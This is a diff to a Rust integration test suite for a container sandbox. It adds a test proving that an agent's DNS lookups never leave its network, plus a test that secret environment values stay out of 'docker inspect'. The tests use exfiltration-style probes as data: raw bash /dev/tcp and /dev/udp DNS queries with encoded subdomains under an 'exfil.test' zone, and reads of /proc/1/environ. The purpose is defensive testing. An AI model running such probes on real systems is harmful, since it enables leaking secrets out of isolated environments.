@@ -19,7 +19,10 @@ use bottle_docker::DockerBackend;
 use camino::{Utf8Path, Utf8PathBuf};
 
 const TOKEN: &str = "tok-engine-SECRET-7f3a9c";
+/// A secret env value of the agent (`${ENGINE_DB}`).
+const DB_SECRET: &str = "db-engine-SECRET-41c2e9";
 const SSHD_IMAGE: &str = "bottle-test-sshd:bookworm";
+const BASE: &str = bottle_core::plan::DEFAULT_BASE_IMAGE;
 
 fn docker_ok() -> bool {
     let ok = duct::cmd!("docker", "info")
@@ -67,15 +70,24 @@ struct Fixture {
 }
 
 fn fixture() -> Fixture {
+    fixture_with(
+        "runtime = \"runc\"\n[agent_provider]\ntemplate = \"shell\"\n\n[[egress.routes]]\nhost = \"api.test\"\nauth = { scheme = \"bearer\", token = \"${ENGINE_TOKEN}\" }\n\n[resources]\ncpus = 1.0\nmemory = \"512MiB\"\npids = 128\n",
+        true,
+        &[],
+    )
+}
+
+fn fixture_with(bottle: &str, copy_cwd: bool, files: &[(&str, String)]) -> Fixture {
     let dir = tempfile::tempdir().unwrap();
     let root = Utf8PathBuf::from_path_buf(dir.path().canonicalize().unwrap()).unwrap();
     fs::create_dir_all(root.join("bottles")).unwrap();
     fs::create_dir_all(root.join("agents")).unwrap();
-    fs::write(
-        root.join("bottles/dev.toml"),
-        "[agent_provider]\ntemplate = \"shell\"\n\n[[egress.routes]]\nhost = \"api.test\"\nauth = { scheme = \"bearer\", token = \"${ENGINE_TOKEN}\" }\n\n[resources]\ncpus = 1.0\nmemory = \"512MiB\"\npids = 128\n",
-    )
-    .unwrap();
+    fs::write(root.join("bottles/dev.toml"), bottle).unwrap();
+    for (rel, text) in files {
+        let p = root.join(rel);
+        fs::create_dir_all(p.parent().unwrap()).unwrap();
+        fs::write(p, text).unwrap();
+    }
     fs::write(root.join("agents/eng.toml"), "bottle = \"dev\"\n").unwrap();
     let ws = root.join("ws");
     fs::create_dir_all(&ws).unwrap();
@@ -87,12 +99,15 @@ fn fixture() -> Fixture {
     let (id, slot) = home.allocate("eng", "dev").unwrap();
     let loader = Loader::new(home.clone(), None);
     let (a, b) = loader.load("eng").unwrap();
-    let env = BTreeMap::from([("ENGINE_TOKEN".to_owned(), TOKEN.to_owned())]);
+    let env = BTreeMap::from([
+        ("ENGINE_TOKEN".to_owned(), TOKEN.to_owned()),
+        ("ENGINE_DB".to_owned(), DB_SECRET.to_owned()),
+    ]);
     let plan = resolve(
         &a,
         &b,
         &ResolveOptions {
-            cwd: Some(ws),
+            cwd: copy_cwd.then_some(ws),
             identity: Some(id.clone()),
             slot,
             ..Default::default()
@@ -227,6 +242,18 @@ fn isolated_agent_lifecycle() {
     assert_ne!(code, 0);
     let insp = out(&["inspect", "--format", "{{.HostConfig.PidsLimit}} {{.HostConfig.Memory}} {{.HostConfig.NanoCpus}} {{.HostConfig.SecurityOpt}} {{.HostConfig.CapDrop}}", &n.agent]);
     assert_eq!(insp, "128 536870912 1000000000 [no-new-privileges] [ALL]");
+    // The bundle has memory and process limits too (issue 13.8).
+    let binsp = out(&[
+        "inspect",
+        "--format",
+        "{{.HostConfig.PidsLimit}} {{.HostConfig.Memory}} {{.HostConfig.MemorySwap}}",
+        &n.bundle,
+    ]);
+    let l = bottle_docker::BundleLimits::default();
+    assert_eq!(
+        binsp,
+        format!("{} {} {}", l.pids, l.memory_bytes, l.memory_bytes)
+    );
 
     // Workspace copy (respecting .bottleignore), agent files and CA trust.
     let (code, ws) = agent_sh(&*running, "cat README.md; test -e secret.txt && echo LEAK; stat -c '%u %a' ~/.gitconfig README.md; cat /etc/ssl/certs/ca-certificates.crt; stat -c '%u' /etc/ssl/certs/ca-certificates.crt; echo $HTTPS_PROXY $NO_PROXY $SSL_CERT_FILE");
@@ -338,6 +365,8 @@ fn isolated_agent_lifecycle() {
         assert_ne!(code, 0, "{what} reachable from the agent: {o}");
     }
 
+    dns_is_forwarded_nowhere(&*running, n, &mut cleanup);
+
     eprintln!("network checks done at {:?}", t0.elapsed());
     // The held token: in the bundle (read-only), nowhere in the agent.
     assert!(bundle_probe(&format!(
@@ -438,4 +467,201 @@ fn failed_launch_rolls_back_everything() {
     let o = sh(&["inspect", &fx.plan.names.agent]);
     assert!(!o.status.success());
     let _ = CommandSpec::new("true");
+}
+
+/// A DNS server that records every query it gets (UDP and TCP) as
+/// `QUERY <proto> <name>` lines on stdout and answers NXDOMAIN.
+const DNS_RECORDER: &str = r#"use IO::Socket::INET; use IO::Select;
+$| = 1;
+my $u = IO::Socket::INET->new(LocalPort => 53, Proto => 'udp') or die "udp: $!";
+my $t = IO::Socket::INET->new(LocalPort => 53, Proto => 'tcp', Listen => 16, ReuseAddr => 1) or die "tcp: $!";
+my $sel = IO::Select->new($u, $t);
+sub answer { my ($m) = @_; my $i = 12; my @l;
+  while ($i < length($m)) { my $n = ord(substr($m, $i, 1)); last if $n == 0 || $n > 63; push @l, substr($m, $i + 1, $n); $i += $n + 1; }
+  return (join('.', @l), substr($m, 0, 2) . pack('n5', 0x8183, 1, 0, 0, 0) . substr($m, 12, $i + 5 - 12)); }
+print "listening\n";
+while (1) { for my $s ($sel->can_read) {
+  if ($s == $u) { my $from = $u->recv(my $m, 4096); next unless defined $from && length($m) > 12;
+    my ($n, $r) = answer($m); print "QUERY udp $n\n"; $u->send($r, 0, $from); }
+  else { my $c = $t->accept or next; read($c, my $len, 2); read($c, my $m, unpack('n', $len . "\0\0"));
+    if (length($m) > 12) { my ($n, $r) = answer($m); print "QUERY tcp $n\n"; print $c pack('n', length $r) . $r; } close $c; } } }
+"#;
+
+/// A DNS query (id 0x1234, RD, one A question) for `name`, as printf escapes.
+fn dns_query(name: &str, tcp: bool) -> String {
+    let mut q = vec![0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0];
+    for l in name.split('.') {
+        q.push(l.len() as u8);
+        q.extend(l.as_bytes());
+    }
+    q.extend([0, 0, 1, 0, 1]);
+    if tcp {
+        let len = (q.len() as u16).to_be_bytes();
+        q.splice(0..0, len);
+    }
+    q.iter().map(|b| format!("\\x{b:02x}")).collect()
+}
+
+/// Send one raw query to `host:53` and print the reply's header as hex.
+fn raw_dns(host: &str, name: &str, tcp: bool) -> String {
+    let dev = if tcp { "tcp" } else { "udp" };
+    format!(
+        "timeout 5 bash -c 'exec 3<>/dev/{dev}/{host}/53 && printf \"{q}\" >&3 && timeout 3 dd bs=512 count=1 <&3 2>/dev/null | od -An -tx1 | tr -d \" \\n\" | head -c 40'",
+        q = dns_query(name, tcp)
+    )
+}
+
+/// THREAT-MODEL S3 / docs/security.md "DNS": nothing the agent asks a
+/// resolver leaves its namespace, proven with a DNS server this test runs
+/// and that records every query it receives.
+fn dns_is_forwarded_nowhere(
+    running: &dyn Running,
+    n: &bottle_core::plan::Names,
+    cleanup: &mut Cleanup,
+) {
+    let nonce = format!("{:08x}", std::process::id() ^ 0x5eed_d15c);
+    let zone = "exfil.test";
+    let rec = format!("bottle-test-dns-{}", running.identity());
+    cleanup.0.push(rec.clone());
+    out(&[
+        "run",
+        "-d",
+        "--name",
+        &rec,
+        "--network",
+        &n.egress_network,
+        BASE,
+        "perl",
+        "-e",
+        DNS_RECORDER,
+    ]);
+    let ip_on = |net: &str| {
+        out(&[
+            "inspect",
+            "--format",
+            &format!("{{{{(index .NetworkSettings.Networks \"{net}\").IPAddress}}}}"),
+            &rec,
+        ])
+    };
+    let rec_egress_ip = ip_on(&n.egress_network);
+    // Positive controls: a container on the agent's internal network whose
+    // embedded resolver has the recorder as its upstream: this engine does
+    // forward from an --internal network (the recorder answers, over UDP
+    // through docker's resolver and over TCP directly), so the recorder and
+    // the queries below can show a leak.
+    out(&["network", "connect", &n.internal_network, &rec]);
+    let rec_int_ip = ip_on(&n.internal_network);
+    let ctl = sh(&[
+        "run",
+        "--rm",
+        "--network",
+        &n.internal_network,
+        "--dns",
+        &rec_int_ip,
+        BASE,
+        "bash",
+        "-c",
+        &format!(
+            "getent hosts ctl-{nonce}.{zone}; {}",
+            raw_dns(&rec_int_ip, &format!("ctl-tcp-{nonce}.{zone}"), true)
+        ),
+    ]);
+    out(&["network", "disconnect", &n.internal_network, &rec]);
+    let log = || {
+        let o = sh(&["logs", &rec]);
+        String::from_utf8_lossy(&o.stdout).into_owned()
+    };
+    let before = log();
+    assert!(
+        before.contains(&format!("QUERY udp ctl-{nonce}.{zone}"))
+            && before.contains(&format!("QUERY tcp ctl-tcp-{nonce}.{zone}")),
+        "control: the recorder did not get the forwarded queries ({}): {before}",
+        String::from_utf8_lossy(&ctl.stderr)
+    );
+    // The agent's resolver is alive and answers a raw query for what it
+    // knows (so the raw queries below are well-formed)...
+    let (_, bundle) = agent_sh(running, &raw_dns("127.0.0.11", "bundle", false));
+    assert!(
+        bundle.len() >= 16 && &bundle[12..16] != "0000",
+        "control: no answer for `bundle` from 127.0.0.11: {bundle:?}"
+    );
+    // ...and forwards nothing: every way of asking for a name in the zone.
+    let long = format!("{}.{}", "7a".repeat(31), "c3".repeat(31));
+    let probes = [
+        format!("timeout 3 getent hosts a-{nonce}.{zone}"),
+        raw_dns("127.0.0.11", &format!("b-{nonce}.{zone}"), false),
+        raw_dns("127.0.0.11", &format!("c-{nonce}.{zone}"), true),
+        raw_dns(&rec_egress_ip, &format!("d-{nonce}.{zone}"), false),
+        raw_dns(&rec_egress_ip, &format!("e-{nonce}.{zone}"), true),
+        raw_dns(
+            bottle_docker::AGENT_DNS,
+            &format!("f-{nonce}.{zone}"),
+            false,
+        ),
+        format!("timeout 3 getent hosts {long}.g-{nonce}.{zone}"),
+        format!("timeout 3 getent ahosts {long}.h-{nonce}.{zone}"),
+    ];
+    for p in &probes {
+        agent_sh(running, p);
+    }
+    let after = log();
+    let leaked: Vec<&str> = after
+        .lines()
+        .filter(|l| l.contains(&nonce) && !l.contains("ctl-"))
+        .collect();
+    assert!(
+        leaked.is_empty(),
+        "the agent's lookups reached a DNS server: {leaked:?}"
+    );
+    let _ = sh(&["rm", "-f", &rec]);
+}
+
+/// THREAT-MODEL S1 (`docker inspect` of a Dockerfile bottle): an agent
+/// image that keeps its own CMD (no agent `command`) gets its secret env
+/// from the 0600 file too: the container config never holds the value, the
+/// agent's main process does.
+#[test]
+fn dockerfile_agent_secret_env_stays_out_of_docker_inspect() {
+    if !docker_ok() {
+        return;
+    }
+    let fx = fixture_with(
+        "runtime = \"runc\"\n[agent_provider]\ndockerfile = \"images/Dockerfile\"\n\n[env]\nDB_PASSWORD = { secret = \"${ENGINE_DB}\" }\n\n[resources]\ncpus = 0.5\nmemory = \"256MiB\"\n",
+        false,
+        &[(
+            "bottles/images/Dockerfile",
+            format!("FROM {BASE}\nCMD [\"sleep\", \"infinity\"]\n"),
+        )],
+    );
+    let id = fx.plan.identity.clone();
+    let _cleanup = Cleanup(Vec::new(), Some(id.clone()));
+    let be = DockerBackend::default().with_sidecar_bin(placeholder_sidecar(&fx.root));
+    let running = be
+        .launch(
+            LaunchInput {
+                plan: &fx.plan,
+                state: &fx.state,
+                wiring: &fx.wiring,
+            },
+            &DuctRunner,
+        )
+        .expect("launch");
+    let n = &fx.plan.names;
+    let inspect = out(&["inspect", &n.agent]);
+    assert!(
+        !inspect.contains(DB_SECRET),
+        "the secret env value is in `docker inspect` of a Dockerfile agent"
+    );
+    // The image's own command runs, with the secret in its environment.
+    let (code, env1) = agent_sh(
+        &*running,
+        "tr '\\0' '\\n' < /proc/1/environ; cat /proc/1/cmdline | tr '\\0' ' '",
+    );
+    assert_eq!(code, 0, "{env1}");
+    assert!(
+        env1.contains(&format!("DB_PASSWORD={DB_SECRET}")),
+        "the agent's main process lacks its secret env"
+    );
+    assert!(env1.contains("sleep infinity"), "{env1}");
+    be.remove_all(&id, false, &DuctRunner).unwrap();
 }
